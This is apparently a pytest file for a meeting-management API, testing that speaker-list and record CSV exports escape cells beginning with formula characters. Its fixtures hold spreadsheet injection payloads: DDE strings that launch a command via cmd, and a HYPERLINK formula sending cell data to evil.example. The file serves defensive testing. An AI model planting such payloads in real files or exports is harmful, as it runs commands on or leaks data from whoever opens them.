"""M5: a name that begins like a formula is text in every CSV, not a formula a spreadsheet runs."""

import csv
import io

import pytest

from hemicycle.apikit.spreadsheet import cell
from tests.inscription.conftest import statement

FLOOR = "/meetings/dialogue/floor"
PLANTED = {
    "speaker": "-2+3+cmd|' /C calc'!A0",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "on_behalf_of": "@SUM(1+1)*cmd|' /C calc'!A0",
    "group_members": ["+cmd|' /C calc'!A0"],
}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Andrej Logar", "Andrej Logar"),
        ("a=b", "a=b"),
        (-3, -3),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, shown):
    assert cell(value) == shown


def _rows(client, path):
    return list(csv.reader(io.StringIO(client.get(path).content.decode())))


def _no_formula(rows):
    return [value for row in rows for value in row if value[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_published_list_csv_has_no_formula(client, api_as, make_meeting):
    make_meeting()
    api_as("secretariat").post(
        "/meetings/dialogue/speakers", statement("EU", level="other", **PLANTED)
    )

    rows = _rows(client, "/meetings/dialogue/list.csv")

    assert _no_formula(rows) == []
    assert "'-2+3+cmd|' /C calc'!A0" in rows[2]
    assert "'" + PLANTED["title"] in rows[2]


def test_the_record_csv_has_no_formula(client, api_as, make_meeting):
    make_meeting()
    api_as("secretariat").post(
        "/meetings/dialogue/speakers", statement("EU", level="other", **PLANTED)
    )
    chair = api_as("chair")
    chair.post(FLOOR, {"action": "start_segment", "segment": "panel"})
    chair.post(FLOOR, {"action": "next"})
    chair.post(FLOOR, {"action": "end"})

    rows = _rows(client, "/meetings/dialogue/record.csv")

    assert _no_formula(rows) == []
    assert "'" + PLANTED["title"] in rows[1]
